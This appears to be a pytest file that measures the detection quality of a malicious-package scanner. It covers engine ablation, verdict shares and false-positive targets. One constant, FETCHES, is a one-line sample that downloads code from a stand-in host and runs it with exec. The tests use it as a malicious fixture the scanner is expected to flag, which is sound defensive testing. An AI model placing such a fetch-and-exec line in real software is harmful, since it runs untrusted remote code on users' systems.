"""What a measurement says is what scans say: shares, targets, and what an engine adds."""

from dataclasses import replace
from pathlib import Path

import pytest

from scanners.report import Verdict
from scanners.scan import Options, scan_artifacts
from tests.quality.corpus import Artifact, gather_folder, gather_samples
from tests.quality.intervals import measure_share
from tests.quality.measure import Outcome, count_verdicts, judge_without, scan_corpus
from tests.quality.registry import Names, list_wishes, read_names
from tests.quality.targets import Target, check_benign, explain
from tests.samples import archives
from tests.samples.engines import make_finding, make_report

FETCHES = "import requests\n\nexec(requests.get('https://cards.example.invalid/a').text)\n"
LEFT_OUT = ("flows", "semgrep", "yara", "texts")


def make_outcome(verdict: Verdict, *, name: str = "cards-1.0", stratum: str = "system (wheel)") -> Outcome:
    report = make_report(verdict, findings=[make_finding()])
    return Outcome(Artifact(name, Path(name), stratum, is_malicious=False), report)


def test_judging_without_an_engine_is_scanning_without_it(tmp_path: Path) -> None:
    by_technique: dict[str, Artifact] = {}
    for artifact in gather_samples(tmp_path):
        if artifact.is_malicious and not artifact.needs_manifest:
            by_technique.setdefault(artifact.technique, artifact)
    chosen = list(by_technique.values())[::5]
    paths = [artifact.path for artifact in chosen]
    whole = list(scan_artifacts(paths, options=Options(needs_manifest=False), workers=2))

    for engine in LEFT_OUT:
        options = Options(needs_manifest=False, without=frozenset([engine]))
        without = [report.verdict for report in scan_artifacts(paths, options=options, workers=2)]
        assert [judge_without(report, engine=engine) for report in whole] == without, engine


def test_folder_is_measured_with_what_stands_in_it(tmp_path: Path) -> None:
    named = tmp_path / "named"
    (named / "folder").mkdir(parents=True)
    (named / "folder" / "cards.py").write_text("SUITS = 4\n")
    (named / "single.py").write_text(FETCHES)
    (named / "archive.zip").write_bytes(archives.pack_zip({"cards.py": "SUITS = 4\n"}))
    gathered = gather_folder(named, stratum="named", is_malicious=False, into=tmp_path / "into")

    outcomes = {o.artifact.name: o.report.verdict for o in scan_corpus(gathered, workers=2, say=lambda _: None)}

    assert outcomes["folder"] is outcomes["archive.zip"] is Verdict.CLEAN
    assert outcomes["single.py"] is Verdict.MALICIOUS


def test_shares_tell_alarms_from_gaps() -> None:
    verdicts = [Verdict.CLEAN, Verdict.CLEAN, Verdict.SUSPICIOUS, Verdict.INCOMPLETE, Verdict.MALICIOUS]

    row = count_verdicts("all", [make_outcome(verdict) for verdict in verdicts])

    assert (row.malicious.hits, row.alarmed.hits, row.incomplete.hits, row.held.hits) == (1, 2, 1, 3)


def test_one_honest_artifact_called_malicious_breaks_the_promise() -> None:
    outcomes = [make_outcome(Verdict.CLEAN)] * 99

    kept = {target.name: target.holds for target in check_benign(outcomes)}
    broken = {target.name: target.holds for target in check_benign([*outcomes, make_outcome(Verdict.MALICIOUS)])}

    assert kept["benign called malicious"]
    assert not broken["benign called malicious"]


def test_what_was_not_measured_does_not_hold() -> None:
    assert not Target("nothing", measure_share(0, 0), 0.02, is_upper=True).holds


@pytest.mark.parametrize(
    ("name", "reason"),
    [("cards-1.0.tar.gz", "a game"), ("Cards-2.0 (installed)", "a game"), ("cardsharp-1.0.tar.gz", None)],
)
def test_explanation_fits_every_version_of_one_name(name: str, reason: str | None) -> None:
    assert explain(make_outcome(Verdict.SUSPICIOUS, name=name), reasons={"cards": "a game"}) == reason


def test_incomplete_for_native_code_alone_is_told_apart() -> None:
    outcome = make_outcome(Verdict.INCOMPLETE)
    broken = replace(outcome, report=replace(outcome.report, errors=("sources: a.py: not parsed",)))

    assert not broken.is_native_only


def test_names_are_fetched_in_every_form_they_are_wanted_in(tmp_path: Path) -> None:
    names = read_names()
    wishes = list(list_wishes(tmp_path))

    assert isinstance(names, Names)
    assert len(names.ordinary) >= 60
    assert len(names.system) >= 80
    assert len(wishes) == 2 * (len(names.ordinary) + len(names.system)) + len(names.ordinary_npm) + len(
        names.system_npm
    )
